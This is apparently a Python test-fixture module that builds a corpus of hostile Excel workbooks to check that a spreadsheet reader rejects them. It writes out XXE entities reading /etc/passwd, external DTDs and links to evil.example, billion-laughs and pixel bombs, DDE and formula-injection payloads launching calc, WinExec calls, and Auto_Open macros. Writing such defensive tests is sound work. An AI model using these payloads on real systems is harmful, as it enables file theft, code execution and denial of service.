"""Hostile workbooks: entities, references outward, ranges without end, macros, floods of everything a workbook may hold."""

import struct
import zlib
from collections.abc import Iterator
from typing import Any

from hostile.crafting import (
    CHILDREN,
    READ,
    SPREADSHEET,
    WITH_TEXTS,
    Hostile,
    book,
    cell,
    hostile,
    relations,
    rows_of,
    sheet,
    texts,
    whole,
)  # fmt: skip
from tabular.tabular_files import HEADERS, child, children

_LAUGHS = "".join(f'<!ENTITY l{n} "' + f"&l{n - 1};" * 10 + '">' for n in range(1, 10))
_DOCTYPES = {
    "an entity": '<!DOCTYPE x [<!ENTITY a "b">]>',
    "a billion laughs": f'<!DOCTYPE x [<!ENTITY l0 "哈">{_LAUGHS}]>',
    "a file": '<!DOCTYPE x [<!ENTITY a SYSTEM "file:///etc/passwd">]>',
    "an address": '<!DOCTYPE x SYSTEM "http://evil.example/evil.dtd">',
    "a parameter entity": '<!DOCTYPE x [<!ENTITY % p SYSTEM "file:///dev/zero"> %p;]>',
}
_OTHERS = ("[Content_Types].xml", "xl/styles.xml", "xl/drawings/drawing1.xml", "docProps/core.xml", "xl/comments1.xml")
_BIG = "damaged_workbook", "zip_bomb", "sheet_too_sparse", "too_many_columns"


def _entities() -> Iterator[Hostile]:
    for what, doctype in _DOCTYPES.items():
        yield hostile(f"{what} in the sheet", "a.xlsx", whole(sheet=sheet(head=doctype)), "dtd")
        yield hostile(f"{what} in the book", "a.xlsx", whole(book=book(head=doctype)), "dtd")
        yield hostile(f"{what} in the relations", "a.xlsx", whole(rels=relations(head=doctype)), "dtd")
        yield hostile(f"{what} in the texts", "a.xlsx", _shared([], head=doctype), "dtd")
        for part in _OTHERS:
            yield hostile(f"{what} in {part}", "a.xlsx", whole() | {part: f'<?xml version="1.0"?>{doctype}<x/>'}, "dtd")
    wide = sheet(head=_DOCTYPES["a file"]).replace("UTF-8", "UTF-16")
    for encoding in ("utf-16", "utf-16-le", "utf-16-be", "utf-32"):
        yield hostile(
            f"a file by entity in {encoding}", "a.xlsx", whole(sheet=wide.encode(encoding)), "damaged_workbook"
        )
    late = "<!-- " + "x" * (1 << 20) + " -->" + _DOCTYPES["an entity"]
    yield hostile("an entity behind a megabyte", "a.xlsx", whole(sheet=sheet(head=late)), "dtd")
    yield hostile(
        "an instruction to fetch a style",
        "a.xlsx",
        whole(sheet=sheet(head='<?xml-stylesheet href="http://evil.example/"?>')),
        READ,
    )
    include = '<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="file:///etc/passwd"/>'
    yield hostile("an inclusion", "a.xlsx", whole(sheet=sheet(after=include)), READ)


def _shared(strings: list[str], head: str = "", rows: str = CHILDREN, announced: str | None = None) -> dict[str, Any]:
    return whole(sheet=sheet(rows), rels=relations(WITH_TEXTS)) | {
        "xl/sharedStrings.xml": texts(strings, announced, head)
    }


def _outward() -> Iterator[Hostile]:
    kind = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/"
    for what in (
        "externalLink",
        "oleObject",
        "hyperlink",
        "attachedTemplate",
        "image",
        "connections",
        "frame",
        "subDocument",
    ):
        for target in (
            "http://evil.example/x",
            "file://///server/share/x",
            "mhtml:http://evil.example!x:http://evil.example/",
        ):
            more = f'<Relationship Id="rId5" Type="{kind}{what}" Target="{target}" TargetMode="External"/>'
            yield hostile(f"{what} at {target}", "a.xlsx", whole(rels=relations(more)), READ)
    dde = f'<externalLink xmlns="{SPREADSHEET}"><ddeLink ddeService="cmd" ddeTopic="/C calc"><ddeItems/></ddeLink></externalLink>'
    yield hostile("a link that starts a program", "a.xlsx", whole() | {"xl/externalLinks/externalLink1.xml": dde}, READ)
    for formula in ("cmd|'/C calc'!A0", 'HYPERLINK("http://evil.example/?"&amp;D2)', 'WEBSERVICE("http://evil.example")', "[1]x!A1",
                    "CALL(\"kernel32\",\"WinExec\",\"JCJ\",\"calc\",0)", "A1+" * 4000 + "1"):  # fmt: skip
        extra = f'<row r="2"><c r="H2" t="str"><f>{formula}</f><v>无</v></c>'
        yield hostile(
            f"the formula {formula[:20]}", "a.xlsx", whole(sheet=sheet(CHILDREN.replace('<row r="2">', extra))), READ
        )
    for text in ("=1+1", "+1", "-1", "@SUM(A1)", "=cmd|'/C calc'!A0"):
        yield hostile(f"the address {text}", "a.xlsx", whole(sheet=sheet(CHILDREN.replace("清溪1村", text))), READ)


def _macros() -> Iterator[Hostile]:
    types = whole()["[Content_Types].xml"].replace("spreadsheetml.sheet.main", "ms-excel.sheet.macroEnabled.main")
    macro = {"xl/vbaProject.bin": bytes.fromhex("d0cf11e0a1b11ae1") + b"Auto_Open Shell" * 99}
    for file in ("a.xlsx", "a.xlsm", "a.xls", "a.csv", "a.xlam"):
        yield hostile(f"macros in {file}", file, whole(types=types) | macro, READ)
    sheets = book().replace("<sheets>", '<sheets><sheet name="宏" sheetId="9" r:id="rId5" state="veryHidden"/>')
    more = '<Relationship Id="rId5" Type="http://schemas.microsoft.com/office/2006/relationships/xlMacrosheet" Target="macrosheets/sheet1.xml"/>'
    old = {
        "xl/macrosheets/sheet1.xml": f'<xm:macrosheet xmlns:xm="http://schemas.microsoft.com/office/excel/2006/main" xmlns="{SPREADSHEET}"><sheetData/></xm:macrosheet>'
    }
    yield hostile(
        "a sheet of macros", "a.xlsx", whole(book=sheets, rels=relations(more)) | old, READ, "damaged_workbook"
    )
    for name in ("Auto_Open", "_xlnm.Auto_Open"):
        named = f'<definedNames><definedName name="{name}" hidden="1">EXEC("calc")</definedName></definedNames>'
        yield hostile(f"a name {name}", "a.xlsx", whole(book=book(more=named)), READ)


def _ranges() -> Iterator[Hostile]:
    for ref in ("A1:XFD1048576", "A1:ZZZZZZ99999999999", "XFD1048576:A1", "A0:A0", "", "-1", "A1:" * 9999, "花名册!A1"):
        yield hostile(
            f"the range {ref[:24]}",
            "a.xlsx",
            whole(sheet=sheet(before=f'<dimension ref="{ref}"/>')),
            READ,
            "damaged_workbook",
        )
    for places in (
        ["XFD1048576"],
        ["A1048576"],
        ["XFD2"],
        [f"A{n * 20_000}" for n in range(1, 50)],
        [f"XF{c}9" for c in "ABCD"],
    ):
        rows = "".join(f'<row r="{place.lstrip("XFABCD")}">{cell(place, "x")}</row>' for place in places)
        yield hostile(
            f"{len(places)} cells as far as {places[-1]}", "a.xlsx", whole(sheet=sheet(CHILDREN + rows)), READ, *_BIG
        )
    for place in ("A99999999999", "ZZZZZZ1", "1A", "", "A-1", "A0", "AAAA1", "\u0661A"):
        yield hostile(f"a cell at {place!r}", "a.xlsx", whole(sheet=sheet(CHILDREN + f'<row r="9">{cell(place, "x")}</row>')),
                      READ, "damaged_workbook", *_BIG)  # fmt: skip
    for row in ("0", "-1", "4294967296", "99999999999999999999", "x", ""):
        yield hostile(f"a row {row!r}", "a.xlsx", whole(sheet=sheet(CHILDREN + f'<row r="{row}"><c><v>1</v></c></row>')),
                      READ, *_BIG)  # fmt: skip


def _floods() -> Iterator[Hostile]:
    merge = lambda refs: f"<mergeCells>{''.join(f'<mergeCell ref={ref!r}/>' for ref in refs)}</mergeCells>".replace(
        "'", '"'
    )
    yield hostile(
        "a million merged cells",
        "a.xlsx",
        lambda: whole(sheet=sheet(after=merge(f"A{n}:B{n}" for n in range(9, 1_000_009)))),
        "too_much",
    )
    yield hostile(
        "30,000 merges over each other",
        "a.xlsx",
        lambda: whole(sheet=sheet(_many(4_000), after=merge(["G2:G1048576"] * 15_000))),
        READ,
        "too_much",
        "no_rows",
    )
    yield hostile(
        "a merge of the whole sheet",
        "a.xlsx",
        whole(sheet=sheet(after=merge(["A1:XFD1048576"]))),
        READ,
        "no_header",
        "damaged_workbook",
    )
    yield hostile(
        "merges that are none",
        "a.xlsx",
        whole(sheet=sheet(after=merge(["A1", "", "B:B", "1:1", "ZZZZ9:A1"]))),
        READ,
        "damaged_workbook",
    )
    yield hostile(
        "300,000 hidden columns",
        "a.xlsx",
        lambda: whole(sheet=sheet(before="<cols>" + '<col min="1" max="16384" hidden="1"/>' * 300_000 + "</cols>")),
        READ,
        "too_much",
    )
    yield hostile(
        "a million empty rows",
        "a.xlsx",
        lambda: whole(sheet=sheet(CHILDREN + "".join(f'<row r="{n}"/>' for n in range(5, 1_000_005)))),
        READ,
    )
    yield hostile(
        "a million hidden rows",
        "a.xlsx",
        lambda: whole(sheet=sheet(CHILDREN + "".join(f'<row r="{n}" hidden="1"/>' for n in range(5, 1_000_005)))),
        READ,
    )
    error = lambda n: f'<row r="{n}">' + "".join(f'<c r="{c}{n}" t="e"><v>#N/A</v></c>' for c in "ABCDEFG") + "</row>"
    yield hostile(
        "a million errors",
        "a.xlsx",
        lambda: whole(sheet=sheet(CHILDREN + "".join(map(error, range(5, 150_000))))),
        "too_much",
    )
    never = lambda n: f'<row r="{n}">' + "".join(f'<c r="{c}{n}"><f>1</f></c>' for c in "ABCDEFG") + "</row>"
    yield hostile(
        "a million formulas without a value",
        "a.xlsx",
        lambda: whole(sheet=sheet(CHILDREN + "".join(map(never, range(5, 150_000))))),
        "too_much",
    )
    names = "".join(f'<definedName name="n{n}">Sheet1!$A$1</definedName>' for n in range(300_000))
    yield hostile(
        "300,000 names",
        "a.xlsx",
        lambda: whole(book=book(more=f"<definedNames>{names}</definedNames>")),
        READ,
        "zip_bomb",
    )
    yield hostile(
        "60,000 names",
        "a.xlsx",
        lambda: whole(
            book=book(more="<definedNames>" + names[:3_000_000].rpartition("<definedName ")[0] + "</definedNames>")
        ),
        READ,
    )
    again = "".join(f'<sheet name="s{n}" sheetId="{n}" r:id="rId1"/>' for n in range(1, 60_000))
    yield hostile(
        "60,000 sheets that are one", "a.xlsx", lambda: whole(book=book(again)), "damaged_workbook", "too_much"
    )
    yield hostile(
        "two sheets that are one",
        "a.xlsx",
        whole(book=book(again[:43].replace("&", "") + '<sheet name="z" sheetId="9" r:id="rId1"/>')),
        "damaged_workbook",
    )
    yield hostile("5,000 sheets", "a.xlsx", _many_sheets, "too_much")
    yield hostile(
        "a hidden sheet that nobody finds",
        "a.xlsx",
        whole(book=book('<sheet name="花名册" sheetId="1" state="veryHidden" r:id="rId1"/>')),
        READ,
    )
    fonts = f'<styleSheet xmlns="{SPREADSHEET}"><numFmts>%s</numFmts><cellXfs>%s</cellXfs></styleSheet>'
    formats = "".join(f'<numFmt numFmtId="{n}" formatCode="0.{n}"/>' for n in range(200, 200_000))
    yield hostile(
        "a million styles",
        "a.xlsx",
        lambda: _shared([]) | {"xl/styles.xml": fonts % ("", '<xf numFmtId="0"/>' * 1_000_000)},
        READ,
        "zip_bomb",
    )
    yield hostile(
        "200,000 number formats", "a.xlsx", lambda: _shared([]) | {"xl/styles.xml": fonts % (formats, "")}, READ
    )
    wide = lambda n: "".join(f'<c r="{_letters(c)}{n}"><v>1</v></c>' for c in range(7, 16_384))
    yield hostile(
        "16,384 columns",
        "a.xlsx",
        lambda: whole(sheet=sheet(CHILDREN + f'<row r="5">{wide(5)}</row><row r="6">{wide(6)}</row>')),
        *_BIG,
    )
    yield hostile(
        "a million cells in one row",
        "a.xlsx",
        lambda: whole(sheet=sheet(CHILDREN + '<row r="5">' + "<c><v>1</v></c>" * 1_000_000 + "</row>")),
        *_BIG,
    )
    for depth in (1_000, 300_000):
        deep = "<a>" * depth + "</a>" * depth
        yield hostile(
            f"elements {depth} deep in the sheet",
            "a.xlsx",
            lambda deep=deep: whole(sheet=sheet(after=deep)),
            READ,
            "damaged_workbook",
        )
        yield hostile(
            f"elements {depth} deep in the book",
            "a.xlsx",
            lambda deep=deep: whole(book=book(more=deep)),
            READ,
            "damaged_workbook",
        )
    for part in ("sheet", "book"):
        many = "<x " + " ".join(f'a{n}="1"' for n in range(300_000)) + "/>"
        yield hostile(
            f"300,000 attributes in the {part}",
            "a.xlsx",
            lambda part=part, many=many: whole(**{part: sheet(after=many) if part == "sheet" else book(more=many)}),
            READ,
            "damaged_workbook",
        )
    for junk in (" ", "<c", "<c ", "<row r=", '<c t="e" ', "<f>", "<!-- ", "<![CDATA[", '<c r="A1" t="e">' + " " * 50):
        yield hostile(
            f"two megabytes of {junk[:16]!r}",
            "a.xlsx",
            lambda junk=junk: whole(sheet=sheet(CHILDREN + junk * (2_000_000 // len(junk)))),
            READ,
            "no_rows",
            *_BIG,
        )


def _letters(column: int) -> str:
    text = ""
    column += 1
    while column:
        column, rest = divmod(column - 1, 26)
        text = chr(65 + rest) + text
    return text


def _many(count: int) -> str:
    return rows_of([HEADERS, *children(3), *(child(n % 50) for n in range(count))])


def _many_sheets() -> dict[str, Any]:
    listed = "".join(f'<sheet name="s{n}" sheetId="{n}" r:id="r{n}"/>' for n in range(1, 5_000))
    lie = "".join(f'<Relationship Id="r{n}" Type="x/worksheet" Target="worksheets/s{n}.xml"/>' for n in range(1, 5_000))
    parts = {f"xl/worksheets/s{n}.xml": sheet("") for n in range(1, 5_000)}
    return (
        whole(book=book(book().partition("<sheets>")[2].partition("</sheets>")[0] + listed), rels=relations(lie))
        | parts
    )


def _texts() -> Iterator[Hostile]:
    for count in ("4294967295", "-1", "x", "99999999999999999999", "100000000"):
        yield hostile(f"{count} texts announced", "a.xlsx", _shared(["a"], announced=count), "damaged_workbook")
    said = lambda n, cells: "".join(
        f'<row r="{r}">' + "".join(f'<c r="{c}{r}" t="s"><v>0</v></c>' for c in "ABCDEFG") + "</row>"
        for r in range(n, n + cells // 7)
    )
    for size, cells in ((32_000, 70_000), (1_000_000, 2_000), (8_000_000, 100), (3_000, 700_000)):
        yield hostile(
            f"a text of {size} in {cells} cells",
            "a.xlsx",
            lambda s=size, c=cells: _shared(["字" * (s // 3)], rows=CHILDREN + said(5, c)),
            "too_much",
            "damaged_workbook",
        )
    yield hostile(
        "200,000 runs in one text",
        "a.xlsx",
        lambda: _shared(["</t>" + "</si><si><r><t>a</t></r>" * 200_000 + "<t>"], announced="1"),
        READ,
        "damaged_workbook",
    )
    yield hostile(
        "30 MB of texts nobody uses", "a.xlsx", lambda: _shared([str(n) * 5 for n in range(800_000)]), READ, "too_much"
    )
    yield hostile(
        "a text that is not there",
        "a.xlsx",
        _shared(["a"], rows=CHILDREN + '<row r="5"><c r="A5" t="s"><v>99999999</v></c></row>'),
        READ,
        "damaged_workbook",
    )
    long = rows_of([["x" * 40_000_000]], 5)
    yield hostile(
        "a text of 40 MB within its cell", "a.xlsx", lambda: whole(sheet=sheet(CHILDREN + long)), *_BIG, "too_much"
    )
    yield hostile(
        "100 MB of texts within cells",
        "a.xlsx",
        lambda: whole(sheet=sheet(CHILDREN + rows_of([["字" * 5_000] * 7 for _ in range(1_000)], 5))),
        *_BIG,
        "too_much",
    )


def _png(width: int, height: int) -> bytes:
    head = struct.pack(">2I5B", width, height, 8, 6, 0, 0, 0)
    return b"\x89PNG\r\n\x1a\n" + struct.pack(">I", 13) + b"IHDR" + head + struct.pack(">I", zlib.crc32(b"IHDR" + head))


def _pictures() -> Iterator[Hostile]:
    pictures = {
        "a.png": _png(100_000, 100_000), "b.png": _png(0x7FFFFFFF, 0x7FFFFFFF), "a.gif": b"GIF89a\xff\xff\xff\xff\xf7\x00\x00",
        "a.bmp": b"BM" + struct.pack("<3I3i2H", 0, 0, 54, 40, 0x7FFFFFFF, 0x7FFFFFFF, 1, 24), "a.jpg": b"\xff\xd8\xff\xc0\x00\x11\x08\xff\xff\xff\xff",
        "a.tiff": b"II*\x00" + b"\xff" * 40, "a.svg": f"{_DOCTYPES['a billion laughs']}<svg>&l9;</svg>".encode(), "a.emf": b"\x01\x00\x00\x00" + b"\xff" * 99,
    }  # fmt: skip
    for name, content in pictures.items():
        outcome = "dtd" if name.endswith("svg") else READ
        yield hostile(f"a flood of pixels {name}", "a.xlsx", whole() | {f"xl/media/{name}": content}, outcome)
        yield hostile(
            f"a flood of pixels called {name}.xlsx",
            "a.xlsx",
            content,
            "foreign_kind",
            "nul_bytes",
            "no_header",
            "markup",
        )


def corpus() -> list[Hostile]:
    """All of them."""
    return [*_entities(), *_outward(), *_macros(), *_ranges(), *_floods(), *_texts(), *_pictures()]
